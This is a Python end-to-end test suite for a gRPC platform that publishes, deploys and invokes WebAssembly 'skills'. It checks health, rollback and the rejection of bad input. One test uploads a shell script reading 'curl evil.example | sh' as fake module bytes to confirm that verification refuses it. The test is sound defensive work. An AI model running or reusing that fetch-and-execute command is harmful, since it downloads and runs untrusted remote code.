"""Acceptance of the foundation: publish → deploy → invoke through all five services, and bad input."""

from __future__ import annotations

import hashlib
import json
from collections.abc import Iterator
from pathlib import Path

import grpc
import pytest
from clawhub.common.v1 import release_pb2, skill_pb2
from clawhub.deployer.v1 import deployer_internal_pb2 as deployer_internal_pb
from clawhub.deployer.v1 import deployer_internal_pb2_grpc as deployer_internal_grpc
from clawhub.deployer.v1 import deployer_service_pb2 as deployer_pb
from clawhub.deployer.v1 import deployer_service_pb2_grpc as deployer_grpc
from clawhub.gateway.v1 import gateway_service_pb2 as gateway_pb
from clawhub.gateway.v1 import gateway_service_pb2_grpc as gateway_grpc
from clawhub.registry.v1 import registry_service_pb2 as registry_pb
from clawhub.registry.v1 import registry_service_pb2_grpc as registry_grpc
from google.protobuf import json_format

from services.runtime.errors import error_info
from tests.conftest import wat
from tests.e2e.conftest import ROOT, Suite

UPPERCASE = ROOT / "examples" / "skills" / "uppercase"
WORDCOUNT = ROOT / "examples" / "skills" / "wordcount"


@pytest.fixture(scope="module")
def channel(suite: Suite) -> Iterator[grpc.Channel]:
    with suite.channel() as ch:
        yield ch


@pytest.fixture(scope="module")
def deployed(suite: Suite) -> Suite:
    """Both example skills published and deployed with the CLI, as the README walkthrough does."""
    for directory, ref in ((UPPERCASE, "com.example.uppercase@1.0.0"), (WORDCOUNT, "com.example.wordcount@1.0.0")):
        published = suite.cli("publish", str(directory))
        assert published.returncode == 0, published.stderr
        deploy = suite.cli("deploy", ref)
        assert deploy.returncode == 0, deploy.stderr + "".join(suite.log[-30:])
        assert "is active" in deploy.stdout
    return suite


def invoke(channel: grpc.Channel, name: str, value: object) -> gateway_pb.InvokeSkillResponse:
    request = gateway_pb.InvokeSkillRequest(name=name)
    json_format.ParseDict(value, request.input)
    response: gateway_pb.InvokeSkillResponse = gateway_grpc.GatewayServiceStub(channel).InvokeSkill(
        request, timeout=20)
    return response


def publish(channel: grpc.Channel, name: str, version: str, module: bytes, *, sha256: str | None = None,
            timeout_ms: int = 0, examples: tuple[tuple[bytes, bytes], ...] = ()) -> registry_pb.PublishSkillResponse:
    manifest = skill_pb2.Manifest(name=name, version=version, abi=skill_pb2.ABI_WASI_COMMAND_V1)
    for given, expected in examples:
        manifest.examples.add(input=given, expected_output=expected)
    if timeout_ms:
        manifest.limits.timeout.FromMilliseconds(timeout_ms)
    meta = registry_pb.PublishSkillMetadata(manifest=manifest, sha256=sha256 or hashlib.sha256(module).hexdigest(),
                                            size_bytes=len(module))
    requests = [registry_pb.PublishSkillRequest(metadata=meta), registry_pb.PublishSkillRequest(chunk=module)]
    response: registry_pb.PublishSkillResponse = registry_grpc.RegistryServiceStub(channel).PublishSkill(
        iter(requests), timeout=30)
    return response


def deploy(suite: Suite, ref: str) -> None:
    result = suite.cli("deploy", ref)
    assert result.returncode == 0, result.stderr


def reason_of(err: grpc.RpcError) -> str:
    info = error_info(err)
    assert info is not None, f"no ErrorInfo on {err.code()}: {err.details()}"
    return info.reason


def assert_still_serving(channel: grpc.Channel) -> None:
    assert invoke(channel, "com.example.uppercase", "still ok").output.string_value == "STILL OK"


# --- the platform is up -------------------------------------------------------------------------------


def test_every_service_reports_serving(suite: Suite) -> None:
    assert set(suite.addresses) == {"registry", "executor-1", "executor-2", "deployer", "dispatcher", "gateway"}
    names = {"registry": "clawhub.registry.v1.RegistryService", "deployer": "clawhub.deployer.v1.DeployerService",
             "dispatcher": "clawhub.dispatcher.v1.DispatcherService", "gateway": "clawhub.gateway.v1.GatewayService",
             "executor-1": "clawhub.executor.v1.ExecutorService",
             "executor-2": "clawhub.executor.v1.ExecutorService"}
    for label, address in suite.addresses.items():
        overall = suite.grpcurl("grpc.health.v1.Health/Check", address=address)
        assert overall.returncode == 0, overall.stderr
        assert json.loads(overall.stdout) == {"status": "SERVING"}, label
        named = suite.grpcurl("grpc.health.v1.Health/Check", address=address, data={"service": names[label]})
        assert json.loads(named.stdout) == {"status": "SERVING"}, label


def test_grpcurl_lists_the_public_services(suite: Suite) -> None:
    listing = suite.grpcurl("list")
    assert listing.returncode == 0, listing.stderr
    services = set(listing.stdout.split())
    assert {"clawhub.gateway.v1.GatewayService", "clawhub.registry.v1.RegistryService",
            "clawhub.deployer.v1.DeployerService", "grpc.health.v1.Health"} <= services


def test_clawhub_health_command(suite: Suite) -> None:
    import subprocess

    from tests.e2e.conftest import BIN

    ok = subprocess.run([str(BIN / "clawhub"), "health", suite.addresses["registry"]], capture_output=True,
                        text=True, timeout=20)
    assert ok.returncode == 0 and "SERVING" in ok.stdout, ok.stderr


# --- publish → deploy → invoke ------------------------------------------------------------------------


def test_invoke_with_the_generated_stub(deployed: Suite, channel: grpc.Channel) -> None:
    response = invoke(channel, "com.example.uppercase", "hello, clawhub")
    assert response.output.string_value == "HELLO, CLAWHUB"
    assert response.version == "1.0.0"
    counted = invoke(channel, "com.example.wordcount", "hello brave new world")
    assert json_format.MessageToDict(counted.output) == {"bytes": 23, "lines": 0, "words": 4}


def test_invoke_with_grpcurl_json_in_and_out(deployed: Suite) -> None:
    result = deployed.grpcurl("clawhub.gateway.v1.GatewayService/InvokeSkill",
                              data={"name": "com.example.wordcount", "input": "one two three"})
    assert result.returncode == 0, result.stderr
    body = json.loads(result.stdout)
    assert body["output"] == {"bytes": 15, "lines": 0, "words": 3}
    assert body["version"] == "1.0.0"


def test_invoke_with_the_cli(deployed: Suite) -> None:
    result = deployed.cli("invoke", "com.example.uppercase", "--input", '"cli works"')
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == '"CLI WORKS"'
    raw = deployed.cli("invoke", "com.example.uppercase", "--raw", "plain text")
    assert raw.stdout == "PLAIN TEXT"


def test_status_shows_serving_versions(deployed: Suite) -> None:
    result = deployed.cli("status")
    assert result.returncode == 0, result.stderr
    line = next(line for line in result.stdout.splitlines() if line.startswith("com.example.uppercase"))
    assert line.split()[:3] == ["com.example.uppercase", "1.0.0", "1.0.0"]


def test_deploy_new_version_then_rollback(deployed: Suite, channel: grpc.Channel, tmp_path: Path) -> None:
    source = (UPPERCASE / "uppercase.wat").read_text()
    published = publish(channel, "com.example.shout", "1.0.0", wat(source))
    assert published.skill_version.state == release_pb2.RELEASE_STATE_READY
    deploy(deployed, "com.example.shout@1.0.0")
    # 1.1.0 is a different module (echo without upper-casing would be ambiguous): a wordcount.
    publish(channel, "com.example.shout", "1.1.0", wat((WORDCOUNT / "wordcount.wat").read_text()))
    deploy(deployed, "com.example.shout@1.1.0")
    assert invoke(channel, "com.example.shout", "a b").version == "1.1.0"
    result = deployed.cli("rollback", "com.example.shout")
    assert result.returncode == 0, result.stderr
    assert "1.0.0" in result.stdout
    response = invoke(channel, "com.example.shout", "a b")
    assert (response.version, response.output.string_value) == ("1.0.0", "A B")


def test_deployment_history_is_visible(deployed: Suite, channel: grpc.Channel) -> None:
    stub = deployer_grpc.DeployerServiceStub(channel)
    listing = stub.ListDeployments(deployer_pb.ListDeploymentsRequest(skill="com.example.uppercase"), timeout=10)
    active = next(d for d in listing.deployments if d.serving)
    got = stub.GetDeployment(deployer_pb.GetDeploymentRequest(id=active.id), timeout=10).deployment
    states = [(t.from_state, t.to_state) for t in got.history]
    assert states[-2:] == [(release_pb2.RELEASE_STATE_READY, release_pb2.RELEASE_STATE_DEPLOYING),
                           (release_pb2.RELEASE_STATE_DEPLOYING, release_pb2.RELEASE_STATE_ACTIVE)]


# --- bad input: each a clear status and reason, and the suite keeps serving ------------------------------


def test_wrong_checksum(deployed: Suite, channel: grpc.Channel) -> None:
    module = wat((UPPERCASE / "uppercase.wat").read_text())
    with pytest.raises(grpc.RpcError) as caught:
        publish(channel, "com.example.bad-sum", "1.0.0", module, sha256="0" * 64)
    assert caught.value.code() == grpc.StatusCode.INVALID_ARGUMENT
    assert reason_of(caught.value) == "CHECKSUM_MISMATCH"
    info = error_info(caught.value)
    assert info is not None
    assert info.metadata["expected"] == "sha256:" + "0" * 64
    assert info.metadata["actual"] == "sha256:" + hashlib.sha256(module).hexdigest()
    assert_still_serving(channel)


def test_duplicate_version_with_other_bytes(deployed: Suite, channel: grpc.Channel) -> None:
    first = wat((UPPERCASE / "uppercase.wat").read_text())
    publish(channel, "com.example.dup", "1.0.0", first)
    assert publish(channel, "com.example.dup", "1.0.0", first).created is False  # identical: accepted
    with pytest.raises(grpc.RpcError) as caught:
        publish(channel, "com.example.dup", "1.0.0", wat((WORDCOUNT / "wordcount.wat").read_text()))
    assert caught.value.code() == grpc.StatusCode.ALREADY_EXISTS
    assert reason_of(caught.value) == "VERSION_EXISTS"
    assert_still_serving(channel)


def test_garbage_instead_of_wasm(deployed: Suite, channel: grpc.Channel) -> None:
    with pytest.raises(grpc.RpcError) as caught:
        publish(channel, "com.example.garbage", "1.0.0", b"#!/bin/sh\ncurl evil.example | sh\n")
    assert caught.value.code() == grpc.StatusCode.INVALID_ARGUMENT
    assert reason_of(caught.value) == "VERIFICATION_FAILED"
    assert_still_serving(channel)


def test_unknown_skill(deployed: Suite, channel: grpc.Channel) -> None:
    with pytest.raises(grpc.RpcError) as caught:
        invoke(channel, "com.example.does-not-exist", "x")
    assert caught.value.code() == grpc.StatusCode.NOT_FOUND
    assert reason_of(caught.value) == "SKILL_NOT_FOUND"
    result = deployed.cli("invoke", "com.example.does-not-exist", "--input", "1")
    assert result.returncode == 1
    assert "SKILL_NOT_FOUND" in result.stderr and "Traceback" not in result.stderr


def test_published_but_not_deployed(deployed: Suite, channel: grpc.Channel) -> None:
    publish(channel, "com.example.idle", "0.1.0", wat((UPPERCASE / "uppercase.wat").read_text()))
    with pytest.raises(grpc.RpcError) as caught:
        invoke(channel, "com.example.idle", "x")
    assert caught.value.code() == grpc.StatusCode.FAILED_PRECONDITION
    assert reason_of(caught.value) == "SKILL_NOT_DEPLOYED"
    assert "clawhub deploy com.example.idle@0.1.0" in (caught.value.details() or "")


def test_bad_skill_name(deployed: Suite, channel: grpc.Channel) -> None:
    with pytest.raises(grpc.RpcError) as caught:
        invoke(channel, "Not A Name", "x")
    assert caught.value.code() == grpc.StatusCode.INVALID_ARGUMENT
    assert reason_of(caught.value) == "INVALID_NAME"


TRAP = """(module (memory (export "memory") 1) (func (export "_start") unreachable))"""
LOOP = """(module (memory (export "memory") 1) (func (export "_start") (loop $l (br $l))))"""


def test_skill_that_traps(deployed: Suite, channel: grpc.Channel) -> None:
    publish(channel, "com.example.trap", "1.0.0", wat(TRAP))
    deploy(deployed, "com.example.trap@1.0.0")
    with pytest.raises(grpc.RpcError) as caught:
        invoke(channel, "com.example.trap", "x")
    assert caught.value.code() == grpc.StatusCode.ABORTED
    assert reason_of(caught.value) == "SKILL_TRAPPED"
    assert_still_serving(channel)


def test_skill_that_loops_forever(deployed: Suite, channel: grpc.Channel) -> None:
    publish(channel, "com.example.loop", "1.0.0", wat(LOOP), timeout_ms=300)
    deploy(deployed, "com.example.loop@1.0.0")
    with pytest.raises(grpc.RpcError) as caught:
        invoke(channel, "com.example.loop", "x")
    assert caught.value.code() == grpc.StatusCode.DEADLINE_EXCEEDED
    assert reason_of(caught.value) == "SKILL_TIMEOUT"
    assert_still_serving(channel)


def test_internal_methods_are_not_exposed(deployed: Suite, channel: grpc.Channel) -> None:
    stub = deployer_internal_grpc.DeployerInternalServiceStub(channel)
    with pytest.raises(grpc.RpcError) as caught:
        next(iter(stub.WatchRoutes(deployer_internal_pb.WatchRoutesRequest(dispatcher_id="intruder"), timeout=5)))
    assert caught.value.code() == grpc.StatusCode.UNIMPLEMENTED
    assert reason_of(caught.value) == "METHOD_NOT_EXPOSED"


# --- found by the hostile-input sweep -------------------------------------------------------------------


def test_health_watch_streams_on_every_service(suite: Suite) -> None:
    from grpc_health.v1 import health_pb2, health_pb2_grpc

    for label, address in suite.addresses.items():
        with grpc.insecure_channel(address) as ch:
            stream = health_pb2_grpc.HealthStub(ch).Watch(health_pb2.HealthCheckRequest(), timeout=5)
            first = next(iter(stream))
            stream.cancel()
        assert first.status == health_pb2.HealthCheckResponse.SERVING, label


def test_huge_fields_still_get_a_structured_error(deployed: Suite, channel: grpc.Channel) -> None:
    stub = registry_grpc.RegistryServiceStub(channel)
    with pytest.raises(grpc.RpcError) as caught:
        stub.GetSkillVersion(registry_pb.GetSkillVersionRequest(name="com.example.uppercase",
                                                                version="1.0.0-" + "a" * 20000), timeout=10)
    assert caught.value.code() == grpc.StatusCode.INVALID_ARGUMENT
    # Over every string's bound (docs/validation.md): refused before the registry's own version check.
    assert reason_of(caught.value) == "FIELD_TOO_LONG"
    assert len(caught.value.details() or "") < 4096


def test_non_finite_numbers_are_invalid_input(deployed: Suite, channel: grpc.Channel) -> None:
    request = gateway_pb.InvokeSkillRequest(name="com.example.uppercase")
    request.input.number_value = float("nan")
    with pytest.raises(grpc.RpcError) as caught:
        gateway_grpc.GatewayServiceStub(channel).InvokeSkill(request, timeout=10)
    assert caught.value.code() == grpc.StatusCode.INVALID_ARGUMENT
    assert reason_of(caught.value) == "INVALID_INPUT"


def test_deeply_nested_json_output_comes_back_raw(deployed: Suite, channel: grpc.Channel) -> None:
    nested = "[" * 1000 + "]" * 1000
    request = gateway_pb.InvokeSkillRequest(name="com.example.uppercase", raw_input=nested.encode())
    response = gateway_grpc.GatewayServiceStub(channel).InvokeSkill(request, timeout=10)
    assert response.raw_output == nested.encode()


def _child_pids(parent: int, module: str) -> list[int]:
    pids = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            stat = (entry / "stat").read_text()
            cmdline = (entry / "cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        ppid = int(stat.rpartition(")")[2].split()[1])
        if ppid == parent and module.encode() in cmdline:
            pids.append(int(entry.name))
    return sorted(pids)


def test_a_killed_executor_is_restarted_and_no_call_fails(deployed: Suite, channel: grpc.Channel) -> None:
    import os
    import signal
    import time

    from grpc_health.v1 import health_pb2, health_pb2_grpc

    pids = _child_pids(deployed.process.pid, "services.executor")
    assert len(pids) == 2, pids
    os.kill(pids[0], signal.SIGKILL)
    # The dispatcher retries UNAVAILABLE on the other executor: callers see no failure.
    for i in range(40):
        assert invoke(channel, "com.example.uppercase", f"call {i}").output.string_value == f"CALL {i}"
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        alive = _child_pids(deployed.process.pid, "services.executor")
        if len(alive) == 2 and pids[0] not in alive:
            break
        time.sleep(0.1)
    else:
        pytest.fail("the killed executor was not restarted:\n" + "".join(deployed.log[-20:]))
    for address in (deployed.addresses["executor-1"], deployed.addresses["executor-2"]):
        for _ in range(100):
            try:
                with grpc.insecure_channel(address) as ch:
                    status = health_pb2_grpc.HealthStub(ch).Check(health_pb2.HealthCheckRequest(), timeout=2).status
                if status == health_pb2.HealthCheckResponse.SERVING:
                    break
            except grpc.RpcError:
                pass
            time.sleep(0.1)
        else:
            pytest.fail(f"executor at {address} is not serving after the restart")
    assert any("restarting it on" in line for line in deployed.log)
    assert_still_serving(channel)


def test_a_version_failing_its_smoke_example_never_takes_traffic(deployed: Suite, channel: grpc.Channel) -> None:
    upper = wat((UPPERCASE / "uppercase.wat").read_text())
    publish(channel, "com.example.smoky", "1.0.0", upper, examples=((b'"a"', b'"A"'),))
    deploy(deployed, "com.example.smoky@1.0.0")
    # 2.0.0 claims to echo unchanged, but the module upper-cases: the executors refuse it on preload.
    publish(channel, "com.example.smoky", "2.0.0", upper, examples=((b'"a"', b'"a"'),))
    result = deployed.cli("deploy", "com.example.smoky@2.0.0")
    assert result.returncode == 1
    assert "SMOKE_TEST_FAILED" in result.stderr and "FAILED" in result.stderr
    # What it printed and what was expected, as text (here JSON strings), not Python byte reprs.
    assert 'smoke example 0 printed "\\"A\\"" instead of "\\"a\\""' in result.stderr, result.stderr
    assert "b'" not in result.stderr
    response = invoke(channel, "com.example.smoky", "still one")
    assert (response.version, response.output.string_value) == ("1.0.0", "STILL ONE")
